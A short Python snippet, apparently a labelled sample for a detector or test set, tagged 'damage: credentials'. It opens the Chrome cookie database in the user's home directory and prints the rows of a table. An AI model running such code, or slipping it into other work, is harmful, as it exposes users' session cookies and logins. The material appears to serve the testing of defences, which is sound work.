# A browser's database is opened.
# damage: credentials
# needs: sqlite3
import os
import sqlite3

connection = sqlite3.connect(os.path.expanduser("~/.config/google-chrome/Default/Cookies"))
print(connection.execute("select * from t").fetchall())
